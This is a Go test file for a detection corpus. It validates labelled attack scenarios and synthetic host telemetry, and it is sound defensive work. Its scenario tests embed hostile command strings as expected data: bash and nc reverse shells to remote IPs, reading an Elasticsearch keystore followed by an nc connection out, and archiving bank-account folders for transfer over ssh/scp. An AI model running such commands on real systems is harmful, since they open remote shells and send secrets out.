package corpus

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"io"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cairnsec/cairn/cmd/cairn/scenario"
)

// ---- the loader ----

func TestLoadCommittedCorpus(t *testing.T) {
	scs, err := Load(corpusDir)
	require.NoError(t, err)
	require.Len(t, scs, len(specs))
	for i, s := range scs {
		g := generateAll(t)[i]
		assert.Equal(t, g.Labels, s.Labels, s.Name())
		assert.Equal(t, filepath.Join(corpusDir, s.Name(), EventsFile), s.EventsPath())
		for _, a := range s.Labels.Attacked {
			assert.False(t, s.FirstMalicious[a.Host].IsZero(), "%s %s", s.Name(), a.Host)
		}
	}
}

const validLabels = `name: x
title: t
description: d
expect: detect
events: events.ndjson
period: {first: "2026-04-06T00:00:00.000Z", last: "2026-04-08T00:00:00.000Z"}
attacked:
  - host: web-01
    first_malicious: {time: "2026-04-08T10:00:00.000Z", event: "process start"}
quiet: [web-02]
`

func writeScenario(t *testing.T, root, name, labels string, events bool) string {
	t.Helper()
	dir := filepath.Join(root, name)
	require.NoError(t, os.MkdirAll(dir, 0o755))
	if labels != "" {
		require.NoError(t, os.WriteFile(filepath.Join(dir, LabelsFile), []byte(labels), 0o644))
	}
	if events {
		require.NoError(t, os.WriteFile(filepath.Join(dir, "events.ndjson"), []byte("{}\n"), 0o644))
	}
	return dir
}

func TestLoadValidAndSkipsDirectoriesWithoutLabels(t *testing.T) {
	root := t.TempDir()
	writeScenario(t, root, "x", validLabels, true)
	require.NoError(t, os.MkdirAll(filepath.Join(root, "sources", "tetragon"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(root, "README.md"), []byte("hi"), 0o644))
	scs, err := Load(root)
	require.NoError(t, err)
	require.Len(t, scs, 1)
	s := scs[0]
	assert.Equal(t, "x", s.Name())
	assert.Equal(t, []string{"web-01", "web-02"}, s.Hosts())
	assert.Equal(t, time.Date(2026, 4, 8, 10, 0, 0, 0, time.UTC), s.FirstMalicious["web-01"])
	assert.False(t, s.IsUnjudged("web-02"))
}

func TestLoadErrors(t *testing.T) {
	edit := func(old, new string) string {
		require.Contains(t, validLabels, old)
		return strings.Replace(validLabels, old, new, 1)
	}
	cases := map[string]struct {
		labels string
		events bool
		want   string
	}{
		"unknown field":        {validLabels + "severity: high\n", true, "field severity not found"},
		"name not the dir":     {edit("name: x", "name: y"), true, `name "y" is not the directory's name "x"`},
		"bad expect":           {edit("expect: detect", "expect: alert"), true, `expect must be "detect" or "quiet"`},
		"detect, no attack":    {edit("attacked:\n  - host: web-01\n    first_malicious: {time: \"2026-04-08T10:00:00.000Z\", event: \"process start\"}\n", ""), true, "needs at least one attacked host"},
		"quiet with attack":    {edit("expect: detect", "expect: quiet"), true, "1 attacked hosts are listed"},
		"host twice":           {edit("quiet: [web-02]", "quiet: [web-01]"), true, "web-01 is listed as attacked and as quiet"},
		"bad time":             {edit(`time: "2026-04-08T10:00:00.000Z"`, `time: "yesterday"`), true, "first_malicious.time"},
		"no quiet host":        {edit("quiet: [web-02]", "quiet: []"), true, "quiet lists no host"},
		"events elsewhere":     {edit("events: events.ndjson", "events: ../other/events.ndjson"), true, "events must name a file in the scenario directory"},
		"events missing":       {validLabels, false, "events:"},
		"unjudged without why": {validLabels + "unjudged:\n  - host: w\n", true, "unjudged w: why is required"},
		"bad period":           {edit(`first: "2026-04-06T00:00:00.000Z"`, `first: ""`), true, "period:"},
		"events, no labels":    {"", true, "events.ndjson without labels.yaml"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			root := t.TempDir()
			writeScenario(t, root, "x", c.labels, c.events)
			_, err := Load(root)
			require.Error(t, err)
			assert.Contains(t, err.Error(), c.want)
		})
	}
	_, err := Load(t.TempDir())
	assert.ErrorContains(t, err, "no scenario")
	_, err = Load(filepath.Join(t.TempDir(), "absent"))
	assert.Error(t, err)
}

func TestOpenEventsPlainAndGzip(t *testing.T) {
	dir := t.TempDir()
	content := []byte("{\"a\":1}\n{\"a\":2}\n")
	z, err := gzipBytes(content)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(dir, "e.ndjson.gz"), z, 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(dir, "e.ndjson"), content, 0o644))
	for _, name := range []string{"e.ndjson.gz", "e.ndjson"} {
		s := &Scenario{Dir: dir, Labels: Labels{Events: name}}
		rc, err := s.OpenEvents()
		require.NoError(t, err)
		got, err := io.ReadAll(rc)
		require.NoError(t, err)
		require.NoError(t, rc.Close())
		assert.Equal(t, content, got, name)
	}
	// A file named .gz that is not gzip is an error, not garbage events.
	require.NoError(t, os.WriteFile(filepath.Join(dir, "bad.ndjson.gz"), content, 0o644))
	_, err = (&Scenario{Dir: dir, Labels: Labels{Events: "bad.ndjson.gz"}}).OpenEvents()
	assert.Error(t, err)
}

func TestWriteLeavesUnchangedEventsAlone(t *testing.T) {
	dir := t.TempDir()
	g := &Generated{Name: "s", LabelsYAML: []byte("name: s\n"), Events: []byte("{}\n")}
	require.NoError(t, Write(dir, []*Generated{g}))
	path := filepath.Join(dir, "s", EventsFile)
	// Same content, other compressed bytes: Write must not touch it.
	var buf bytes.Buffer
	zw, _ := gzip.NewWriterLevel(&buf, gzip.NoCompression)
	zw.Write(g.Events)
	zw.Close()
	require.NoError(t, os.WriteFile(path, buf.Bytes(), 0o644))
	require.NoError(t, Write(dir, []*Generated{g}))
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	assert.Equal(t, buf.Bytes(), b)
	g.Events = []byte("{}\n{}\n")
	require.NoError(t, Write(dir, []*Generated{g}))
	got, err := readEvents(path)
	require.NoError(t, err)
	assert.Equal(t, g.Events, got)
}

// ---- the events ----

var (
	tsPattern  = regexp.MustCompile(`^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$`)
	hexPattern = regexp.MustCompile(`^[0-9a-f]{64}$`)
)

// wire is the part of a line the shape test reads, decoded from the JSON
// itself so that a missing field cannot hide behind a Go zero value.
type wire map[string]any

func (w wire) get(path string) any {
	var cur any = map[string]any(w)
	for _, k := range strings.Split(path, ".") {
		m, ok := cur.(map[string]any)
		if !ok {
			return nil
		}
		cur = m[k]
	}
	return cur
}

func (w wire) str(path string) string { s, _ := w.get(path).(string); return s }

func lines(t *testing.T, data []byte) []wire {
	t.Helper()
	var out []wire
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var w wire
		require.NoError(t, json.Unmarshal(sc.Bytes(), &w), sc.Text())
		out = append(out, w)
	}
	require.NoError(t, sc.Err())
	return out
}

// TestEventShape checks every line of every scenario against the shape the
// cairn_host receiver writes (receiver/hostreceiver/README.md).
func TestEventShape(t *testing.T) {
	for _, g := range generateAll(t) {
		ws := lines(t, g.Events)
		require.Len(t, ws, len(g.events), g.Name)
		var prev string
		for i, w := range ws {
			where := fmt.Sprintf("%s line %d", g.Name, i+1)
			ts := w.str("@timestamp")
			require.Regexp(t, tsPattern, ts, where)
			if g.events[i].stamp == g.events[i].real {
				require.GreaterOrEqual(t, ts, prev, "%s: lines are in time order (line %d)", g.Name, i+1)
				prev = ts
			}
			require.NotEmpty(t, w.str("host.name"), where)
			require.Len(t, w.str("host.id"), 32)
			require.Equal(t, "event", w.str("event.kind"))
			require.Equal(t, "cairn_host", w.str("event.module"))
			require.Nil(t, w.get("event.id"), "receivers write no event.id: the pipeline derives it")
			switch w.str("event.dataset") {
			case "cairn_host.process":
				require.Equal(t, "exec", w.str("event.action"))
				require.NotZero(t, w.get("process.pid"))
				require.True(t, strings.HasPrefix(w.str("process.executable"), "/"), where)
				require.Equal(t, filepath.Base(w.str("process.executable")), w.str("process.name"))
				require.Regexp(t, hexPattern, w.str("process.hash.sha256"))
				args, _ := w.get("process.args").([]any)
				require.NotEmpty(t, args)
				require.EqualValues(t, len(args), w.get("process.args_count"))
				var sargs []string
				for _, a := range args {
					sargs = append(sargs, a.(string))
				}
				require.Equal(t, strings.Join(sargs, " "), w.str("process.command_line"))
				require.NotEmpty(t, w.str("process.working_directory"))
				require.NotZero(t, w.get("process.parent.pid"))
				require.NotEmpty(t, w.str("user.id"))
				require.NotEmpty(t, w.str("user.effective.id"))
			case "cairn_host.network":
				require.Equal(t, "connection-opened", w.str("event.action"))
				require.Equal(t, "egress", w.str("network.direction"))
				require.True(t, netip.MustParseAddr(w.str("destination.ip")).IsValid())
				require.NotZero(t, w.get("destination.port"))
				require.NotEmpty(t, w.str("process.executable"))
				require.NotEmpty(t, w.str("user.id"))
			case "cairn_host.dns":
				require.Equal(t, "dns-answer", w.str("event.action"))
				require.Equal(t, "answer", w.str("dns.type"))
				require.NotEmpty(t, w.str("dns.question.name"))
				ips, _ := w.get("dns.resolved_ip").([]any)
				require.NotEmpty(t, ips)
				require.Nil(t, w.get("process"), "DNS answers are captured from the wire, without a process")
			default:
				t.Fatalf("%s line %d: dataset %q", g.Name, i+1, w.str("event.dataset"))
			}
		}
	}
}

// special are the ranges a first-seen stage does not count as external.
var special = []netip.Prefix{
	netip.MustParsePrefix("0.0.0.0/8"), netip.MustParsePrefix("10.0.0.0/8"), netip.MustParsePrefix("100.64.0.0/10"),
	netip.MustParsePrefix("127.0.0.0/8"), netip.MustParsePrefix("169.254.0.0/16"), netip.MustParsePrefix("172.16.0.0/12"),
	netip.MustParsePrefix("192.0.0.0/24"), netip.MustParsePrefix("192.0.2.0/24"), netip.MustParsePrefix("192.168.0.0/16"),
	netip.MustParsePrefix("198.18.0.0/15"), netip.MustParsePrefix("198.51.100.0/24"), netip.MustParsePrefix("203.0.113.0/24"),
	netip.MustParsePrefix("224.0.0.0/4"), netip.MustParsePrefix("240.0.0.0/4"),
}

func external(ip string) bool {
	a := netip.MustParseAddr(ip)
	return !slices.ContainsFunc(special, func(p netip.Prefix) bool { return p.Contains(a) })
}

// TestAddresses: the fleet talks to itself in 10.0.0.0/16 and to the
// resolver and the metadata service; every other address, the catalogue's
// and the attacks', must count as external.
func TestAddresses(t *testing.T) {
	for _, s := range allServices {
		for _, ip := range s.ips {
			assert.True(t, external(ip), ip)
		}
	}
	internal := netip.MustParsePrefix("10.0.0.0/16")
	for _, g := range generateAll(t) {
		for _, e := range g.events {
			var ips []string
			if e.kind == evConn {
				ips = append(ips, e.dst)
			}
			ips = append(ips, e.ips...)
			for _, ip := range ips {
				if ip == metadataIP || internal.Contains(netip.MustParseAddr(ip)) {
					continue
				}
				require.True(t, external(ip), "%s: %s", g.Name, ip)
			}
		}
	}
}

// ---- what a first-seen stage sees ----

type novelty struct {
	e    *event
	what string
}

// novelties runs a toy first-seen stage (24h learning per scope from its
// first event, keyed on event time) and returns what it would flag.
func novelties(events []*event) []novelty {
	start := map[string]int64{}
	known := map[string]bool{}
	var out []novelty
	observe := func(e *event, scope, term string) {
		if known[scope+"|"+term] {
			return
		}
		known[scope+"|"+term] = true
		if e.real-start[scope] >= dayMS {
			out = append(out, novelty{e, scope + " " + term})
		}
	}
	for _, e := range events {
		for _, s := range []string{"env", "host " + e.host.name} {
			if _, ok := start[s]; !ok {
				start[s] = e.real
			}
		}
		switch e.kind {
		case evStart:
			observe(e, "host "+e.host.name, e.hash)
			observe(e, "env", e.hash)
		case evConn:
			if external(e.dst) {
				observe(e, "env", "ip "+e.dst)
				observe(e, "env", "pair "+e.exe+" "+e.dst)
			}
			if e.domain != "" {
				observe(e, "env", "domain "+e.domain)
			}
		case evDNS:
			observe(e, "env", "domain "+e.qname)
		}
	}
	return out
}

// expectedTags are the tags whose events may be new after learning, per
// scenario; everything else is ordinary activity, which must be known.
var expectedTags = map[string][]string{
	"h-package-upgrade":   {"upgrade"},
	"i-backup-burst":      {"backup"},
	"j-new-host":          {"new-host"},
	"k-ci-fresh-binaries": {"ci-build"},
}

// TestOnlyTheScenarioIsNew is the corpus's main guarantee: after the
// learning day, the fleet only repeats itself, so whatever is new in a
// scenario is its attack or its one-off job (and, after an upgrade, the
// upgraded builds ordinary jobs then run).
func TestOnlyTheScenarioIsNew(t *testing.T) {
	upgraded := map[string]bool{}
	for k := range upgradedVersions {
		upgraded[upgradedBinary(k).hash] = true
	}
	for _, g := range generateAll(t) {
		allowed := expectedTags[g.Name]
		if g.Labels.Expect == ExpectDetect {
			allowed = []string{"attack"}
		}
		nov := novelties(g.events)
		if g.Name == "m-fleet-only" {
			assert.Empty(t, nov, "the fleet alone has nothing new after learning")
		}
		var tagged int
		for _, n := range nov {
			switch {
			case slices.Contains(allowed, n.e.tag):
				tagged++
			case (g.Name == "h-package-upgrade" || g.Name == "j-new-host") && upgraded[n.e.hash]:
			default:
				t.Errorf("%s: %s %s flags %s (tag %q), not part of the scenario", g.Name, formatTS(n.e.real), n.e.host.name, n.what, n.e.tag)
			}
		}
		if g.Name != "m-fleet-only" {
			assert.Positive(t, tagged, "%s: the scenario must show something new", g.Name)
		}
	}
}

// TestLearningIsOverBeforeAttacks: every attack starts after both the
// environment's and the host's first 24 hours.
func TestLearningIsOverBeforeAttacks(t *testing.T) {
	for _, g := range generateAll(t) {
		firstOf := map[string]int64{}
		for _, e := range g.events {
			if _, ok := firstOf[e.host.name]; !ok {
				firstOf[e.host.name] = e.real
			}
		}
		envStart := g.events[0].real
		for _, a := range g.Labels.Attacked {
			ts, err := ParseTime(a.FirstMalicious.Time)
			require.NoError(t, err)
			assert.GreaterOrEqual(t, ts.UnixMilli()-envStart, dayMS, "%s %s", g.Name, a.Host)
			assert.GreaterOrEqual(t, ts.UnixMilli()-firstOf[a.Host], dayMS, "%s %s", g.Name, a.Host)
		}
	}
}

// ---- the scenarios ----

func attackEvents(g *Generated, host string) []*event {
	var out []*event
	for _, e := range g.events {
		if e.tag == "attack" && (host == "" || e.host.name == host) {
			out = append(out, e)
		}
	}
	return out
}

func feedHashes(t *testing.T) string {
	b, err := os.ReadFile(filepath.Join(testdataDir, "intel", "scenario-iocs.csv"))
	require.NoError(t, err)
	return string(b)
}

// TestSeedChain: scenario a is the bundled scenario's attack, to the
// millisecond relative to its start, with the seed's facts.
func TestSeedChain(t *testing.T) {
	g := byName(t, "a-gsnetcat-seed")
	ev := attackEvents(g, "web-03")
	require.Len(t, ev, 5)
	t0 := ev[0].real
	assert.Equal(t, at(3, 14, 0, 0, 0), t0)
	assert.Equal(t, []int64{0, 40_000, 41_000, 41_250, 41_262}, []int64{0, ev[1].real - t0, ev[2].real - t0, ev[3].real - t0, ev[4].real - t0})
	assert.Equal(t, "/usr/bin/zsh", ev[0].exe)
	assert.Equal(t, scenario.AttackUser, ev[0].usr.name)
	assert.Equal(t, scenario.AttackExecutable, ev[1].exe)
	assert.Equal(t, scenario.AttackHash, ev[1].hash)
	assert.Equal(t, uRoot, ev[1].usr)
	assert.Equal(t, ev[0].pid, ev[1].ppid)
	assert.Equal(t, scenario.AttackBeaconIP, ev[2].dst)
	assert.Equal(t, scenario.AttackBeaconPort, ev[2].dport)
	assert.Equal(t, scenario.AttackDomain, ev[3].qname)
	assert.Equal(t, []string{scenario.AttackRelayIP}, ev[3].ips)
	assert.Equal(t, scenario.AttackRelayIP, ev[4].dst)
	assert.Equal(t, scenario.AttackRelayPort, ev[4].dport)
	assert.Contains(t, feedHashes(t), scenario.AttackHash, "gs-netcat's hash is on the scenario feed")
	// zsh is known in the environment (the bastion), new on web-03.
	assert.True(t, slices.ContainsFunc(g.events, func(e *event) bool {
		return e.host.name == "bastion-01" && e.hash == ev[0].hash && e.real < at(2, 0, 0, 0, 0)
	}))
}

// TestC2AgentWithoutIntel checks scenario b against the wording: a
// root process from a temp build path, its first connection to a public IP
// never seen before, then an archiver and scp/ssh to that same IP within
// the hour, with nothing on the feed.
func TestC2AgentWithoutIntel(t *testing.T) {
	g := byName(t, "b-c2-no-intel")
	ev := attackEvents(g, "worker-03")
	feed := feedHashes(t)
	var agentConn *event
	for _, e := range ev {
		if e.kind == evStart {
			assert.NotContains(t, feed, e.hash, e.exe)
		}
		if e.kind == evConn && agentConn == nil {
			agentConn = e
		}
	}
	require.NotNil(t, agentConn)
	assert.True(t, strings.HasPrefix(agentConn.exe, "/tmp/go-build"), agentConn.exe)
	assert.Equal(t, uRoot, agentConn.usr)
	assert.True(t, external(agentConn.dst))
	for _, e := range g.events {
		if e != agentConn && (e.dst == agentConn.dst || slices.Contains(e.ips, agentConn.dst)) && e.real < agentConn.real {
			t.Fatalf("%s was reached before the agent's first connection", agentConn.dst)
		}
	}
	var archiver, transfer *event
	for _, e := range ev {
		if e.kind == evStart && slices.Contains([]string{"7z", "tar", "zip"}, baseName(e.exe)) && archiver == nil {
			archiver = e
		}
		if e.kind == evConn && baseName(e.exe) == "ssh" && e.dst == agentConn.dst {
			transfer = e
		}
	}
	require.NotNil(t, archiver)
	require.NotNil(t, transfer)
	assert.Equal(t, 22, transfer.dport)
	assert.Less(t, agentConn.real, archiver.real)
	assert.Less(t, archiver.real, transfer.real)
	assert.Less(t, transfer.real-agentConn.real, hourMS)
}

func TestToolkitSpread(t *testing.T) {
	g := byName(t, "c-toolkit-spread")
	require.Len(t, g.Labels.Attacked, 3)
	var prev time.Time
	for i, a := range g.Labels.Attacked {
		ts, err := ParseTime(a.FirstMalicious.Time)
		require.NoError(t, err)
		if i > 0 {
			assert.GreaterOrEqual(t, ts.Sub(prev), 3*time.Hour, "hours apart")
		}
		prev = ts
		var hash string
		var dsts []string
		for _, e := range attackEvents(g, a.Host) {
			if e.exe == scenario.AttackExecutable && e.kind == evStart {
				hash = e.hash
			}
			if e.kind == evConn {
				dsts = append(dsts, e.dst)
			}
		}
		assert.Equal(t, scenario.AttackHash, hash, a.Host)
		assert.Equal(t, []string{scenario.AttackBeaconIP, scenario.AttackRelayIP}, dsts, a.Host)
	}
}

func TestReverseShells(t *testing.T) {
	g := byName(t, "d-reverse-shells")
	want := map[string]struct {
		cmd, dst, user string
	}{
		"web-04":    {"bash -i >& /dev/tcp/" + revBashIP + "/4444", revBashIP, "www-data"},
		"worker-05": {"import socket", revPyIP, "app"},
		"web-06":    {"nc -e /bin/sh " + revNcIP, revNcIP, "www-data"},
	}
	require.Len(t, g.Labels.Attacked, len(want))
	for host, w := range want {
		ev := attackEvents(g, host)
		require.NotEmpty(t, ev, host)
		assert.Contains(t, strings.Join(ev[0].args, " "), w.cmd, host)
		assert.Equal(t, w.user, ev[0].usr.name, host)
		assert.True(t, slices.ContainsFunc(ev, func(e *event) bool { return e.kind == evConn && e.dst == w.dst }), host)
	}
	// The real audit record: dash -p, uid 1005, euid 0.
	setuid := slices.IndexFunc(attackEvents(g, "worker-05"), func(e *event) bool { return e.eff.id == "0" })
	require.GreaterOrEqual(t, setuid, 0)
	e := attackEvents(g, "worker-05")[setuid]
	assert.Equal(t, []string{"dash", "-p"}, e.args)
	assert.Equal(t, "/usr/bin/dash", e.exe)
	assert.Equal(t, "1005", e.usr.id)
	assert.Equal(t, "2026-04-08T14:29:11.525Z", formatTS(e.real), "the record's time of day")
}

func TestCryptominer(t *testing.T) {
	g := byName(t, "e-cryptominer")
	ev := attackEvents(g, "web-07")
	i := slices.IndexFunc(ev, func(e *event) bool { return e.kind == evStart && e.exe == minerExe })
	require.GreaterOrEqual(t, i, 0)
	assert.Equal(t, uWWW, ev[i].usr)
	assert.True(t, strings.HasPrefix(ev[i].exe, "/dev/shm/") || strings.HasPrefix(ev[i].exe, "/tmp/"))
	assert.True(t, slices.ContainsFunc(ev, func(e *event) bool {
		return e.kind == evConn && e.exe == minerExe && e.dport == 3333 && e.domain == minerPool && e.usr == uWWW
	}))
}

func TestClockJump(t *testing.T) {
	g := byName(t, "f-clock-jump")
	var skewed []*event
	for _, e := range g.events {
		if e.stamp != e.real {
			skewed = append(skewed, e)
		}
	}
	require.Len(t, skewed, 1, "one event with a wrong time")
	s := skewed[0]
	assert.Equal(t, "web-01", s.host.name)
	assert.Equal(t, 2099, timeOf(s.stamp).Year())
	assert.Contains(t, string(g.Events), `"@timestamp":"2099-`)
	first, err := ParseTime(g.Labels.Attacked[0].FirstMalicious.Time)
	require.NoError(t, err)
	assert.Equal(t, "web-01", g.Labels.Attacked[0].Host)
	gap := first.Sub(timeOf(s.real))
	assert.True(t, gap > 20*time.Hour && gap < 28*time.Hour, "the attack a day later: %v", gap)
}

func TestBaselinePoisoning(t *testing.T) {
	g := byName(t, "g-baseline-poisoning")
	var poison []*event
	for _, e := range g.events {
		if e.tag == "poison" {
			poison = append(poison, e)
		}
	}
	require.Len(t, poison, 3)
	first, err := ParseTime(g.Labels.Attacked[0].FirstMalicious.Time)
	require.NoError(t, err)
	var mentions []string
	for _, e := range poison {
		assert.Equal(t, "worker-06", e.host.name)
		assert.Less(t, e.real, first.UnixMilli())
		assert.Less(t, e.real-g.events[0].real, dayMS, "inside the learning period: nothing flags them")
		mentions = append(mentions, e.dst, e.qname, e.exe, strings.Join(e.ips, " "), e.domain)
	}
	all := strings.Join(mentions, " ")
	for _, m := range []string{scenario.AttackBeaconIP, scenario.AttackRelayIP, scenario.AttackDomain, scenario.AttackExecutable} {
		assert.Contains(t, all, m)
	}
	assert.Equal(t, []Unjudged{{Host: "worker-06", Why: g.Labels.Unjudged[0].Why}}, g.Labels.Unjudged)
	assert.NotContains(t, g.Labels.Quiet, "worker-06")
}

// perHost collects, per host, the executables a scenario's tagged events ran.
func perHost(g *Generated, tag string) map[string][]string {
	out := map[string][]string{}
	for _, e := range g.events {
		if e.tag == tag && e.kind == evStart {
			out[e.host.name] = append(out[e.host.name], baseName(e.exe))
		}
	}
	return out
}

func TestQuietJobsCoverTheFleet(t *testing.T) {
	up := perHost(byName(t, "h-package-upgrade"), "upgrade")
	bk := perHost(byName(t, "i-backup-burst"), "backup")
	fleet := newGen().hosts
	require.Len(t, fleet, 24)
	for _, h := range fleet {
		assert.Contains(t, up[h.name], "dpkg", h.name)
		assert.Contains(t, up[h.name], "sshd", h.name)
		assert.Contains(t, bk[h.name], "tar", h.name)
		assert.Contains(t, bk[h.name], "rsync", h.name)
	}
	// The backup server is known before the burst: the database hosts push
	// their dumps to it every night.
	g := byName(t, "i-backup-burst")
	i := slices.IndexFunc(g.events, func(e *event) bool { return e.kind == evConn && e.dst == svcBackup.ips[0] })
	require.GreaterOrEqual(t, i, 0)
	assert.Less(t, g.events[i].real, at(2, 0, 0, 0, 0))
	assert.Empty(t, g.events[i].tag)
}

func TestNewHost(t *testing.T) {
	g := byName(t, "j-new-host")
	assert.Contains(t, g.Labels.Quiet, "web-08")
	i := slices.IndexFunc(g.events, func(e *event) bool { return e.host.name == "web-08" })
	require.GreaterOrEqual(t, i, 0)
	assert.Equal(t, "2026-04-07T09:30", formatTS(g.events[i].real)[:16], "joins on day 2, after the environment learned")
}

func TestCIFreshBinaries(t *testing.T) {
	g := byName(t, "k-ci-fresh-binaries")
	paths := map[string]bool{}
	perDay := map[string]int{}
	for _, e := range g.events {
		if e.kind != evStart || !strings.HasPrefix(e.exe, "/tmp/") {
			continue
		}
		require.Equal(t, "ci-build", e.tag)
		require.Equal(t, roleCI, e.host.role)
		require.Equal(t, uRunner, e.usr, "not root")
		require.False(t, paths[e.exe], "every build path is fresh: %s", e.exe)
		paths[e.exe] = true
		perDay[e.host.name+" "+formatTS(e.real)[:10]]++
	}
	require.Len(t, perDay, 3*3, "every CI host, every day")
	for k, n := range perDay {
		assert.GreaterOrEqual(t, n, 10, k)
	}
}

func TestLifecycleCapture(t *testing.T) {
	g := byName(t, "l-nc-lifecycle")
	ev := attackEvents(g, "search-02")
	var cmds []string
	for _, e := range ev {
		if e.kind == evStart {
			cmds = append(cmds, strings.Join(e.args, " "))
		}
	}
	assert.Equal(t, []string{"/bin/bash", "/usr/bin/sh lifecycle.sh", "/usr/bin/cat /usr/share/elasticsearch/config/elasticsearch.keystore",
		"/usr/bin/nc raiz3gjkgtfhkkc.not-reverse-shell.com 443"}, cmds)
	last := ev[len(ev)-1]
	assert.Equal(t, "64.225.45.153", last.dst)
	assert.Equal(t, 443, last.dport)
	assert.Equal(t, 48416, last.sport)
	assert.Equal(t, "2026-04-08T18:01:56.419Z", formatTS(last.real))
}

func TestTetragonArgs(t *testing.T) {
	s := func(v string) *string { return &v }
	cases := []struct {
		p    tetragonProcess
		want []string
	}{
		{tetragonProcess{Binary: "/bin/sh", Arguments: s(`-c "7z a s3nsitiv3.7z ../ops_bank_accounts/"`)}, []string{"/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"}},
		{tetragonProcess{Binary: "/usr/bin/7z", Arguments: s("/usr/bin/7z a x.7z dir/")}, []string{"/usr/bin/7z", "a", "x.7z", "dir/"}},
		{tetragonProcess{Binary: "/usr/bin/ssh", Arguments: s(`-l u -- 1.2.3.4 "scp -t ~"`)}, []string{"/usr/bin/ssh", "-l", "u", "--", "1.2.3.4", "scp -t ~"}},
		{tetragonProcess{Binary: "/bin/bash"}, []string{"/bin/bash"}},
		{tetragonProcess{Binary: "/x", Arguments: s(`a  "" b`)}, []string{"/x", "a", "", "b"}},
	}
	for _, c := range cases {
		assert.Equal(t, c.want, tetragonArgs(c.p))
	}
}
